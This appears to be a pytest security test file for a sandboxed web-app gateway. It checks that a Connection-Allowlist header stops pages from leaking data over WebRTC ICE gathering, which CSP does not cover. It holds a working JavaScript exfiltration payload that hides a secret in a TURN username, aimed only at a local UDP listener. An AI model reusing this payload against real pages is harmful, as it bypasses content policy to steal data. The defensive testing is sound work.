"""WebRTC from a weblet's page, in a real headless Chromium (issue 9, item 14).

``connect-src`` does not govern WebRTC: a page that may connect nowhere can
still hand ``RTCPeerConnection`` STUN/TURN servers at any address, and ICE
gathering sends them UDP datagrams; after a TURN server's 401 challenge
Chromium sends a USERNAME the page chose. That is an exfiltration channel
around the CSP. The gateway closes it with a ``Connection-Allowlist`` header
whose ``webrtc`` parameter is ``block`` unless the manifest declares
``"webrtc": true`` (``daemon/weblet/csp.py``; Chromium enforces it since 152,
in the renderer and, for child frames, in the browser process).

Each test listens on a UDP socket on 127.0.0.1 and points the page's ICE
servers at it; "blocked" means the socket received **zero** datagrams once
gathering ended (an event the page reports, never a fixed sleep). Routes
tried: the weblet's own window, a fresh same-origin ``about:blank`` frame, a
``srcdoc`` frame, and a dedicated worker.
"""

from __future__ import annotations

import json
import socket
import struct
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from browser import launch_chromium, requires_chromium
from daemon_harness import DaemonProcess

pytestmark = requires_chromium

SANDBOX = "allow-scripts allow-same-origin allow-forms"
#: What the page smuggles out in its TURN username when it can.
SECRET = "exfil-4f1c2a"
#: Only ever reached if gathering neither completes nor is refused (the unfixed case).
GATHERING_BOUND_MS = 20_000

PAGE = """<!doctype html>
<meta charset="utf-8">
<title>probe</title>
<p id="here">a weblet that declares no network at all</p>
"""
WORKER = "postMessage(typeof RTCPeerConnection + ' ' + typeof webkitRTCPeerConnection);\n"


def _weblet(folder: Path, title: str, **extra: Any) -> Path:
    folder.mkdir()
    (folder / "weblet.json").write_text(json.dumps({"title": title, "version": "1.0.0", **extra}))
    (folder / "index.html").write_text(PAGE)
    (folder / "worker.js").write_text(WORKER)
    return folder


class UdpListener:
    """A UDP socket on 127.0.0.1 that records every datagram and, like a TURN server,
    answers an unauthenticated Allocate with a 401 challenge (so a browser that may
    use it sends its USERNAME next)."""

    def __init__(self) -> None:
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.sock.bind(("127.0.0.1", 0))
        self.port: int = self.sock.getsockname()[1]
        self.datagrams: list[bytes] = []
        self.username_seen = threading.Event()
        self._lock = threading.Lock()
        self._thread = threading.Thread(target=self._run, daemon=True)
        self._thread.start()

    def _run(self) -> None:
        while True:
            try:
                data, peer = self.sock.recvfrom(65536)
            except OSError:
                return
            with self._lock:
                self.datagrams.append(data)
            if SECRET.encode() in data:
                self.username_seen.set()
            elif len(data) >= 20 and data[:2] == b"\x00\x03":  # Allocate request, no credentials yet
                self.sock.sendto(_turn_401(data[4:20]), peer)

    def count(self) -> int:
        with self._lock:
            return len(self.datagrams)

    def close(self) -> None:
        self.sock.close()


def _attr(kind: int, value: bytes) -> bytes:
    return struct.pack("!HH", kind, len(value)) + value + b"\x00" * (-len(value) % 4)


def _turn_401(cookie_and_txid: bytes) -> bytes:
    """A STUN Allocate error response (RFC 5766): 401 Unauthorized with a realm and a nonce."""
    body = _attr(0x0009, b"\x00\x00\x04\x01Unauthorized") + _attr(0x0014, b"ocapd-test") + _attr(0x0015, b"n0nce")
    return struct.pack("!HH", 0x0113, len(body)) + cookie_and_txid + body


@pytest.fixture
def udp() -> Iterator[UdpListener]:
    listener = UdpListener()
    yield listener
    listener.close()


@pytest.fixture(scope="module")
def browser(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Any]:
    with launch_chromium(tmp_path_factory.mktemp("chromium-home")) as b:
        yield b


@pytest.fixture(scope="module")
def daemon(tmp_path_factory: pytest.TempPathFactory) -> Iterator[DaemonProcess]:
    root = tmp_path_factory.mktemp("weblet-webrtc")
    d = DaemonProcess(root / "home", port=0)
    d.home.mkdir()
    d.start()
    try:
        d.out("install", str(_weblet(root / "quiet", "Quiet")), "-n", "quiet")  # powers NONE, declares nothing
        yield d
    finally:
        d.stop()


class HostPage:
    """A fresh context with a page on the Chat UI's origin that frames weblet instances as the panel does."""

    def __init__(self, browser: Any, d: DaemonProcess) -> None:
        self.daemon = d
        self.context = browser.new_context()
        self.page = self.context.new_page()
        self.url = f"http://localhost:{d.gateway_port}/"
        self.page.goto(self.url)

    def open_frame(self, name: str, frame_id: str = "w0") -> Any:
        url = self.daemon.out("open", name)
        self.page.evaluate(
            """([id, url, sandbox]) => new Promise((resolve, reject) => {
                const frame = document.createElement("iframe");
                frame.id = id;
                frame.setAttribute("sandbox", sandbox);
                frame.addEventListener("load", resolve, { once: true });
                frame.addEventListener("error", reject, { once: true });
                frame.src = url;
                document.body.append(frame);
            })""",
            [frame_id, url, SANDBOX],
        )
        return next(f for f in self.page.frames if f.url == url)

    def alive(self) -> bool:
        """The Chat page itself still runs script and is still where it was."""
        try:
            return bool(self.page.evaluate("() => [1 + 1, location.href]") == [2, self.url])
        except Exception:  # noqa: BLE001 - its renderer ended
            return False

    def close(self) -> None:
        self.context.close()


@pytest.fixture
def host(browser: Any, daemon: DaemonProcess) -> Iterator[HostPage]:
    page = HostPage(browser, daemon)
    yield page
    page.close()


#: Run in a weblet frame: ICE gathering against STUN and TURN servers at ``port``,
#: from the route named. Resolves with how gathering ended, or (``wait`` false)
#: as soon as it has started.
ATTACK = """async ([port, route, secret, wait, bound]) => {
    let realm = window;
    if (route === "about:blank" || route === "srcdoc") {
        const child = document.createElement("iframe");
        const loaded = new Promise((resolve) => child.addEventListener("load", resolve, { once: true }));
        if (route === "srcdoc") child.srcdoc = "<p>child</p>";
        document.body.append(child);
        if (route === "srcdoc") await loaded;
        realm = child.contentWindow;
    }
    const RTC = realm.RTCPeerConnection;
    if (typeof RTC !== "function") return "no RTCPeerConnection";
    let pc;
    try {
        pc = new RTC({ iceServers: [
            { urls: `stun:127.0.0.1:${port}` },
            { urls: `turn:127.0.0.1:${port}?transport=udp`, username: secret, credential: "x" },
        ] });
    } catch (e) {
        return "constructor threw " + e.name;
    }
    window.__pcs = [...(window.__pcs || []), pc];  // kept alive
    const ended = new Promise((resolve) => {
        pc.addEventListener("icegatheringstatechange", () => {
            if (pc.iceGatheringState === "complete") resolve("gathering complete");
        });
        setTimeout(() => resolve("still " + pc.iceGatheringState), bound);
    });
    try {
        pc.createDataChannel("out");
        await pc.setLocalDescription(await pc.createOffer());
    } catch (e) {
        return "offer failed: " + e.name;
    }
    return wait ? await ended : "started";
}"""


def _attack(frame: Any, udp: UdpListener, route: str, *, wait: bool = True) -> str:
    try:
        return str(frame.evaluate(ATTACK, [udp.port, route, SECRET, wait, GATHERING_BOUND_MS]))
    except Exception as e:  # noqa: BLE001 - the browser ending the frame's renderer is one outcome
        return f"frame ended: {str(e).splitlines()[0]}"


def test_a_none_weblet_cannot_send_udp_through_webrtc_from_its_own_page(host: HostPage, udp: UdpListener) -> None:
    frame = host.open_frame("quiet")
    outcome = _attack(frame, udp, "window")
    # Chromium 152+ lets the page construct the connection, and gathering ends at once with no candidate.
    assert outcome in ("gathering complete", "constructor threw NotAllowedError"), outcome
    assert udp.count() == 0, udp.datagrams[:3]
    # The header changes nothing else: the page still reaches its own CapTP endpoint.
    opened = frame.evaluate(
        """() => new Promise((resolve) => {
            const ws = new WebSocket(`ws://${location.host}/_ocapd/ws`);
            ws.onopen = () => { ws.close(); resolve("open"); };
            ws.onerror = () => resolve("error");
        })"""
    )
    assert opened == "open"


@pytest.mark.parametrize("route", ["about:blank", "srcdoc"])
def test_a_none_weblets_child_frames_cannot_send_udp_through_webrtc(
    host: HostPage, udp: UdpListener, route: str
) -> None:
    frame = host.open_frame("quiet")
    outcome = _attack(frame, udp, route)
    # A local child frame inherits the block. Chromium 156's renderer does not
    # check it there and asks for sockets anyway; the browser process refuses
    # ("No binder found for interface network.mojom.MdnsResponder") and ends
    # the renderer. Either way, not one datagram.
    assert outcome == "gathering complete" or outcome.startswith("frame ended"), outcome
    assert udp.count() == 0, udp.datagrams[:3]


@pytest.mark.xfail(
    strict=True,
    reason="known gap (docs/security.md): Chromium 156 ends the Chat tab's renderer, not only the weblet's, "
    "when a framed weblet's about:blank child asks for WebRTC sockets; no data leaves, but the tab must be "
    "reloaded. When this passes, Chromium fixed it: update docs/security.md and drop the mark.",
)
def test_known_gap_a_refused_webrtc_attempt_does_not_end_the_chat_page(host: HostPage, udp: UdpListener) -> None:
    frame = host.open_frame("quiet")
    _attack(frame, udp, "about:blank")
    assert udp.count() == 0
    assert host.alive()


def test_a_weblets_worker_has_no_peer_connection(host: HostPage) -> None:
    # Not ocapd's doing: Chromium exposes RTCPeerConnection to windows only.
    # Recorded here so that a browser that changes it fails this test.
    frame = host.open_frame("quiet")
    seen = frame.evaluate(
        """() => new Promise((resolve) => {
            const worker = new Worker("/worker.js");
            worker.onmessage = (e) => resolve(e.data);
            worker.onerror = (e) => resolve("worker error: " + e.message);
        })"""
    )
    assert seen == "undefined undefined"


def test_a_weblet_that_declares_webrtc_can_use_it_and_so_can_leak_through_turn(
    host: HostPage, udp: UdpListener, daemon: DaemonProcess, tmp_path: Path
) -> None:
    daemon.out("install", str(_weblet(tmp_path / "talker", "Talker", webrtc=True)), "-n", "talker")
    frame = host.open_frame("talker")
    assert _attack(frame, udp, "window", wait=False) == "started"
    # What declaring it means: the page's chosen TURN username reaches any
    # address it names, after the server's 401 challenge.
    assert udp.username_seen.wait(GATHERING_BOUND_MS / 1000), udp.datagrams[:3]
